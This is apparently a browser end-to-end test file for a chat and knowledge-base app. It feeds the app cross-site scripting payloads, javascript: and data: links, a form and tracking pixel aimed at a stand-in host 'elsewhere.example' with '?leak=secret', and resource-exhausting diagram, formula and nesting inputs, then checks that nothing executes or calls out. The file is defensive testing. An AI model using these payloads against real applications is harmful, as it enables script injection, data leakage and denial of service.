import { ask, expect, lastAnswer } from './expect.mjs';
import { becomes, publish, start } from './runs.mjs';

const HURT = 'window.hurt = true';
/** Stands for every way of bringing a script along; names are kept short by the API. */
const NAME = `<img src=x onerror="${HURT}">`;
const ELSEWHERE = 'https://elsewhere.example';

const ECHO = {
  headwater: 1,
  name: `Repeat ${NAME}`,
  slug: 'repeat-hostile',
  kind: 'chat',
  inputs: [{ name: 'question', type: 'string', required: true }],
  nodes: [{ id: 'reply', kind: 'answer', settings: { text: '{{ start.question }}' } }],
  edges: [{ from: 'start', to: 'reply' }],
};

export const PIECES = {
  html: `<script>${HURT}</script><img src=x onerror="${HURT}"><svg onload="${HURT}"><a xlink:href="javascript:${HURT}"><text>svg</text></a></svg><iframe srcdoc="<script>parent.hurt = true</script>"></iframe><form action="${ELSEWHERE}/form"><button>send</button></form><style>body{display:none}</style><base href="${ELSEWHERE}">`,
  links: `[one](javascript:window.hurt=true) [two](JaVa\tscript:window.hurt=true) [three](data:text/html,<script>parent.hurt=true</script>) [four](vbscript:x) <javascript:window.hurt=true>`,
  pictures: `![pixel](${ELSEWHERE}/pixel.png?leak=secret) ![svg](data:image/svg+xml,<svg onload="${HURT}"/>) ![][ref]\n\n[ref]: ${ELSEWHERE}/ref.png`,
  diagrams: [
    '```mermaid\ngantt\n dateFormat X\n axisFormat %s\n tickInterval 1millisecond\n a: 0, 1000000d\n```',
    `\`\`\`mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n a["<img src=x onerror='${HURT}'>"] --> b\n\`\`\``,
    `\`\`\`mermaid\ngraph TD\n a["<img src=${ELSEWHERE}/m.png onerror='${HURT}'>"] --> b\n click a "javascript:${HURT}"\n style b fill:url(${ELSEWHERE}/f.png)\n\`\`\``,
    `\`\`\`mermaid\ngraph TD\n${Array.from({ length: 60 }, (_, n) => `a${n}`).join(' & ')} --> ${Array.from({ length: 60 }, (_, n) => `b${n}`).join(' & ')}\n\`\`\``,
    '```mermaid\nthis is no diagram at all\n```',
  ].join('\n\n'),
  formulas: [
    String.raw`$$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\e\e}\def\e{\f\f}\def\f{\g\g}\def\g{\h\h}\def\h{xxxx}\a\a\a\a$$`,
    `$$${'\\sqrt{'.repeat(25)}x${'}'.repeat(25)}$$`,
    String.raw`$$\rule{999999em}{999999em}$$`,
    String.raw`$$\kern{-9999em}\Huge{over everything}$$`,
    `$$\\href{javascript:${HURT}}{click} \\includegraphics{${ELSEWHERE}/t.png} \\htmlStyle{position:fixed}{x}$$`,
    `$$${String.raw`\sqrt{`.repeat(500)}x${'}'.repeat(500)}$$`,
    `$$${String.raw`\sqrt{`.repeat(5000)}x${'}'.repeat(5000)}$$`,
  ].join('\n\n'),
  nesting: `${'> '.repeat(3000)}deep\n\n${'- '.repeat(2000)}deep\n\n${'[!['.repeat(3000)}\n\n${'*a _b '.repeat(3000)}\n\n${'*'.repeat(9000)}x${'*'.repeat(9000)}`,
};
const GOOD = 'Sums: \\(a^2 + b^2 = c^2\\), and\n\n$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n```python\ndef add(one, other):\n    return one + other  # a sum\n```\n\n```mermaid\nflowchart LR\n  ask[Question] --> search[Search] --> answer[Answer]\n```';

/** Fails when a script ran, or when another host was asked for anything. */
export async function inert(page, asked, what) {
  expect(!(await page.evaluate(() => window.hurt)), `${what}: a script ran`);
  expect(asked.length === 0, `${what}: another host was asked: ${asked.join(', ')}`);
  expect(await page.evaluate(() => getComputedStyle(document.body).display !== 'none'), `${what}: a style took effect`);
  expect(await page.evaluate(() => document.querySelectorAll('main iframe, main form[action], base').length === 0), `${what}: HTML came through`);
}

async function say(page, text) {
  const before = await page.getByTestId('answer').count();
  await ask(page, text);
  await page.getByTestId('answer').nth(before).waitFor();
  return lastAnswer(page);
}

/** Whatever anybody writes anywhere is text, and nothing of it is fetched. */
export async function stayInert(page, look) {
  const own = new URL(page.url()).host;
  const asked = [];
  const watch = (request) => {
    const url = new URL(request.url());
    if (/^https?:$/.test(url.protocol) && url.host !== own) asked.push(url.href);
  };
  page.on('request', watch);
  page.on('dialog', (dialog) => {
    asked.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await publish(page, ECHO);
  await page.goto('/chat?flow=repeat-hostile');
  await ask(page, GOOD);
  await page.waitForURL(/\/chat\/.+/);
  const good = await lastAnswer(page);
  await good.locator('.katex').nth(1).waitFor();
  await good.locator('.hljs-keyword').first().waitFor();
  await good.getByRole('img', { name: /^Diagram/ }).waitFor();
  const source = good.locator('pre').filter({ hasText: 'flowchart LR' });
  expect((await source.count()) === 0, 'the source of a diagram stands below it');
  await good.getByRole('button', { name: 'Show the source' }).click();
  await source.waitFor();
  await good.getByRole('button', { name: 'Hide the source' }).click();
  await source.waitFor({ state: 'detached' });
  await look.take('chat-rich');
  for (const [what, text] of Object.entries(PIECES)) {
    const answer = await say(page, text);
    // Longer than what draws diagrams waits.
    await page.waitForTimeout(what === 'diagrams' ? 2500 : 300);
    await inert(page, asked, what);
    const box = await page.locator('main').boundingBox();
    const wide = await answer.evaluate((node) => node.scrollWidth > node.clientWidth + 1);
    expect(!wide && box !== null, `${what}: the answer is wider than its column`);
    for (const link of await answer.locator('a[href]').all()) {
      const href = await link.getAttribute('href');
      expect(/^(https?:|mailto:|\/runs\/)/.test(href), `${what}: a link leads to ${href}`);
    }
  }
  const began = Date.now();
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
  expect(Date.now() - began < 20_000, 'the page does not answer any more');
  await look.take('chat-hostile', { widths: [1280] });
  await namesAreText(page, asked);
  page.off('request', watch);
}

/** Names of files, flows and knowledge bases, text of passages and what tools say. */
async function namesAreText(page, asked) {
  const headers = { 'X-Requested-With': 'headwater' };
  const base = await (await page.request.post('/api/v1/knowledge-bases', { headers, data: { name: NAME, description: NAME } })).json();
  const added = await page.request.post(`/api/v1/knowledge-bases/${base.id}/documents`, {
    headers,
    multipart: { file: { name: `${NAME.replaceAll(/["/]/g, "'")}.md`, mimeType: 'text/markdown', buffer: Buffer.from(`# Title ${PIECES.html}\n\nA passage about weirs. ${PIECES.html} ${PIECES.links}`) } },
  });
  expect(added.ok(), `the document was refused: ${await added.text()}`);
  await page.goto('/knowledge');
  await page.getByText(NAME).first().waitFor();
  await inert(page, asked, 'the list of knowledge bases');
  await page.goto(`/knowledge/${base.id}`);
  await page.locator('[data-testid="document"][data-status="ready"]').waitFor();
  await inert(page, asked, 'the list of documents');
  await page.goto(`/knowledge/${base.id}/search?q=weirs`);
  await page.getByTestId('passage').first().waitFor();
  await inert(page, asked, 'a passage that was found');
  await page.getByTestId('passage').first().getByRole('link').first().click();
  await page.getByTestId('chunk').first().waitFor();
  await inert(page, asked, 'a document');

  const flow = await publish(page, {
    headwater: 1,
    name: `Says ${NAME}`,
    slug: 'says-hostile',
    kind: 'task',
    inputs: [{ name: 'text', type: 'string', required: true }],
    nodes: [
      { id: 'tool', kind: 'code', settings: {
        language: 'javascript',
        inputs: { text: '{{ start.text }}' },
        outputs: { result: 'string' },
        code: 'function main({ text }) { return { result: text + text }; }',
      } },
      { id: 'reply', kind: 'answer', settings: { text: '{{ tool.result }}' } },
    ],
    edges: [{ from: 'start', to: 'tool' }, { from: 'tool', to: 'reply' }],
  });
  const run = await start(page, flow, { text: PIECES.html });
  await becomes(page, run, 'succeeded');
  await page.goto(`/runs/${run}?step=tool`);
  await page.getByTestId('step-panel').getByText('iframe srcdoc').first().waitFor();
  await inert(page, asked, 'what a step gave');
  await page.goto('/');
  await page.getByText(`Says ${NAME}`).first().waitFor();
  await inert(page, asked, 'the home page');
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox').fill('img src');
  await page.getByRole('option').first().waitFor();
  await inert(page, asked, 'the palette');
  await page.keyboard.press('Escape');
}
